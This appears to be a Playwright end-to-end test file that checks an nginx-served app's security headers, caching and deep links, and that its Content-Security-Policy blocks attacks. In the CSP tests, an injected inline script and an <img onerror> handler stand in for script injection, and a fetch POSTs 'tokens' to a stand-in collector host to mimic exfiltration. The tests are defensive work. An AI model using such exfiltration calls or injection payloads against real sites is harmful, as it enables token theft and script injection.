// The release build as deployed: nginx with deploy/nginx.conf and the security headers that
// scripts/security-headers.mjs writes from the site's config.json (scripts/test.sh serves it
// so). What the server sends, and that the Content-Security-Policy stops what it is for.
import { test, expect } from './fixtures.js';
import { AppPage, freshUser } from './app.js';
import { securityHeaders } from '../../scripts/security-headers.mjs';

test('nginx sends the security headers written from config.json, on the page and every file', async ({ request }) => {
  const page = await request.get('/');
  const html = await page.text();
  const config = await (await request.get('/config.json')).json();
  const expected = securityHeaders(config, html);
  expect(expected['Content-Security-Policy']).toContain(`connect-src 'self' ${new URL(process.env.COGNITO_URL).origin}`);
  expect(expected['Content-Security-Policy']).toMatch(/script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]+=*'/);

  const assets = [...new Set([...html.matchAll(/(?:href|src)=["']?(\/[^"' >]+\.(?:wasm|js|css))(?=[\s"'>])/g)].map(([, path]) => path))];
  expect(assets.map((a) => a.split('.').pop()).sort()).toEqual(['css', 'js', 'wasm']);
  for (const path of ['/', '/config.json', ...assets]) {
    const headers = (await request.get(path)).headers();
    for (const [name, value] of Object.entries(expected)) {
      expect(headers[name.toLowerCase()], `${name} on ${path}`).toBe(value);
    }
  }
});

test('index.html and config.json are never cached; hashed files are cached for a year', async ({ request }) => {
  for (const path of ['/', '/index.html', '/config.json']) {
    expect((await request.get(path)).headers()['cache-control'], path).toBe('no-cache');
  }
  const html = await (await request.get('/')).text();
  const wasm = html.match(/\/[^"' >]+_bg\.wasm/)[0];
  const answer = await request.get(wasm, { headers: { 'accept-encoding': 'br' } });
  expect(answer.headers()['content-type']).toBe('application/wasm');
  expect(answer.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
  expect(answer.headers()['content-encoding']).toBe('br');
});

test('a deep link or a reload of one loads the app, and it signs in', async ({ page }) => {
  const app = new AppPage(page);
  const user = await freshUser('deep');
  await page.goto('/account/settings?from=mail');
  await expect(app.byTestId('pool')).toBeVisible();
  await page.reload();
  await app.signIn(user);
  await app.expectSignedIn(user.username);
});

test.describe('the Content-Security-Policy', () => {
  test.use({ expectCspViolations: true });

  test('blocks an injected inline script and an <img onerror> handler', async ({ page, cspViolations }) => {
    const app = new AppPage(page);
    await app.open();
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = "script ran"';
      document.body.append(script);
      const img = document.createElement('img');
      img.setAttribute('src', '/no-such-image.png');
      img.setAttribute('onerror', 'window.injected = "handler ran"');
      document.body.append(img);
    });
    await expect.poll(() => cspViolations.map((v) => v.directive).sort()).toEqual(['script-src-attr', 'script-src-elem']);
    expect(await page.evaluate(() => window.injected)).toBeUndefined();
    await expect(app.byTestId('sign-in-form')).toBeVisible(); // the app itself runs on
  });

  test('blocks a request to any origin but the configured Cognito endpoint', async ({ page, cspViolations }) => {
    const app = new AppPage(page);
    await app.open();
    const outcome = await page.evaluate(() =>
      fetch('https://collector.example.net/steal', { method: 'POST', body: 'tokens' }).then(
        () => 'sent',
        (e) => `refused: ${e.name}`,
      ),
    );
    expect(outcome).toBe('refused: TypeError');
    expect(cspViolations).toEqual([
      expect.objectContaining({ directive: 'connect-src', blocked: 'https://collector.example.net/steal' }),
    ]);
    // The configured endpoint itself is allowed: a sign-in still works.
    const user = await freshUser('csp');
    await app.signIn(user);
    await app.expectSignedIn(user.username);
  });
});
